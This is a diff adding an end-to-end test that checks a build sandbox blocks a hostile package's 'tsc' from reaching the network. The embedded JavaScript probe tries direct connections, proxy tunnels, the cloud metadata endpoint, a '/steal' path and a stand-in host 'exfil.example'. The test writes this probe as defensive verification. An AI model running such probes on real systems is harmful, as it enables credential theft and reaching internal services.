@@ -21,6 +21,7 @@
 #include <nlohmann/json.hpp>
 
 #include "support/archive_builder.h"
+#include "support/counting_listener.h"
 #include "support/e2e.h"
 #include "support/npm_registry.h"
 #include "support/server_process.h"
@@ -227,6 +228,104 @@ TEST_P(HostileRegistryE2E, CraftedTypescriptRunsAsTscButReachesNothingOfTheAgent
   EXPECT_FALSE(fs::exists(state_ / "planted"));
   // The agent is unharmed.
   EXPECT_EQ(httpRequest("GET", agent_->baseUrl() + "/healthz").status, 200);
+}
+
+// The crafted tsc probes the network: straight TCP to a canary server on the host's loopback
+// and to the agent's own port, the same through the job's proxy (CONNECT and plain http),
+// cloud metadata, and DNS both ways Node resolves. It waits for every answer, then passes.
+std::string networkProbeScript(uint16_t canary_port, uint16_t agent_port) {
+  const std::string canary = "127.0.0.1:" + std::to_string(canary_port);
+  const std::string agent = "127.0.0.1:" + std::to_string(agent_port);
+  return R"JS(
+const net = require('net'), dns = require('dns'), http = require('http');
+console.log('HOSTILE_TSC_RAN');
+const settle = (ms, run) => Promise.race([new Promise(run), new Promise(r => setTimeout(() => r('error timeout'), ms))]);
+const direct = (port) => settle(5000, (done) => {
+  const s = net.connect({ host: '127.0.0.1', port });
+  s.on('connect', () => { s.destroy(); done('ok'); });
+  s.on('error', (e) => done('error ' + e.code));
+});
+const proxy = new URL(process.env.HTTPS_PROXY);
+const tunnel = (target) => settle(5000, (done) => {
+  const s = net.connect({ host: proxy.hostname, port: Number(proxy.port) });
+  let head = '';
+  s.on('connect', () => s.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`));
+  s.on('data', (d) => { head += d; if (head.includes('\r\n')) { s.destroy(); done(head.startsWith('HTTP/1.1 200') ? 'ok' : 'error ' + head.slice(9, 12)); } });
+  s.on('error', (e) => done('error ' + e.code));
+});
+const plain = (url) => settle(5000, (done) => {
+  const req = http.request({ host: proxy.hostname, port: Number(proxy.port), path: url, headers: { Host: new URL(url).host } },
+    (res) => { res.resume(); done(res.statusCode === 200 ? 'ok' : 'error ' + res.statusCode); });
+  req.on('error', (e) => done('error ' + e.code));
+  req.end();
+});
+const lookup = (name) => settle(8000, (done) => dns.lookup(name, (e) => done(e ? 'error ' + e.code : 'ok')));
+const resolve4 = (name) => settle(8000, (done) => dns.resolve4(name, (e) => done(e ? 'error ' + e.code : 'ok')));
+const tries = [
+  ['direct canary', () => direct(CANARY_PORT)],
+  ['direct agent', () => direct(AGENT_PORT)],
+  ['tunnel canary', () => tunnel('CANARY')],
+  ['tunnel agent', () => tunnel('AGENT')],
+  ['plain canary', () => plain('http://CANARY/steal')],
+  ['plain metadata', () => plain('http://169.254.169.254/latest/meta-data/')],
+  ['tunnel elsewhere', () => tunnel('exfil.example:443')],
+  ['lookup', () => lookup('exfil.example')],
+  ['resolve4', () => resolve4('exfil.example')],
+];
+(async () => {
+  for (const [what, run] of tries) console.log(`TRY ${what}: ${await run()}`);
+  process.exit(0);
+})();
+)JS";
+}
+
+TEST_P(HostileRegistryE2E, ANetworkProbeReachesNothingAndEveryProxiedAttemptIsReported) {
+  testsupport::CountingListener canary;
+  const std::string agent_url = agent_->baseUrl();
+  const uint16_t agent_port = static_cast<uint16_t>(std::stoi(agent_url.substr(agent_url.rfind(':') + 1)));
+  std::string script = networkProbeScript(canary.port(), agent_port);
+  auto substitute = [&](const std::string& from, const std::string& to) {
+    for (size_t at = script.find(from); at != std::string::npos; at = script.find(from, at + to.size())) {
+      script.replace(at, from.size(), to);
+    }
+  };
+  substitute("CANARY_PORT", std::to_string(canary.port()));
+  substitute("AGENT_PORT", std::to_string(agent_port));
+  substitute("CANARY", "127.0.0.1:" + std::to_string(canary.port()));
+  substitute("AGENT", "127.0.0.1:" + std::to_string(agent_port));
+  const Json report = deployWithTsc(script, "network");
+  const std::string cli_log = log(last_id_, "push");
+  const std::string context = report.dump(2) + "\n--- cli.log\n" + cli_log;
+  ASSERT_NE(cli_log.find("HOSTILE_TSC_RAN"), std::string::npos) << context;
+  // The probe failed everywhere, yet the deploy itself went through the proxy.
+  EXPECT_EQ(report["status"], "succeeded") << context;
+  const auto results = tries(cli_log);
+  for (const char* what : {"direct canary", "direct agent", "tunnel canary", "tunnel agent", "plain canary",
+                           "plain metadata", "tunnel elsewhere", "lookup", "resolve4"}) {
+    ASSERT_TRUE(results.count(what)) << "no TRY line for " << what << "\n" << context;
+    EXPECT_NE(results.at(what), "ok") << what << " got through\n" << context;
+    EXPECT_NE(results.at(what), "error timeout") << what << " hung instead of failing\n" << context;
+  }
+  for (const char* what : {"tunnel canary", "tunnel agent", "plain canary", "plain metadata", "tunnel elsewhere"}) {
+    EXPECT_EQ(results.at(what), "error 403") << what << "\n" << context;
+  }
+  EXPECT_EQ(canary.accepted(), 0u) << "the canary server was reached";
+
+  // The report lists every attempt the proxy refused, and the traffic it let through.
+  std::map<std::string, uint64_t> denied;
+  for (const auto& entry : report["network"]["denied"]) denied[entry["host"]] = entry["attempts"];
+  EXPECT_EQ(denied["127.0.0.1:" + std::to_string(canary.port())], 2u) << context;
+  EXPECT_EQ(denied["127.0.0.1:" + std::to_string(agent_port)], 1u) << context;
+  EXPECT_EQ(denied["169.254.169.254:80"], 1u) << context;
+  EXPECT_EQ(denied["exfil.example:443"], 1u) << context;
+  const std::string standin_host = standin_->baseUrl().substr(std::string("http://").size());
+  bool pushed_through_proxy = false;
+  for (const auto& entry : report["network"]["allowed"]) {
+    if (entry["host"] == standin_host && entry["bytes_out"].get<uint64_t>() > 0) pushed_through_proxy = true;
+  }
+  EXPECT_TRUE(pushed_through_proxy) << context;
+  EXPECT_EQ(report["network"]["enforcement"], GetParam() == "namespaces" ? "network_namespace" : "landlock_tcp_port")
+      << context;
 }
 
 TEST_P(HostileRegistryE2E, AJobOverItsLimitsFailsWithTheLimitsReasonAndTheNextJobRuns) {
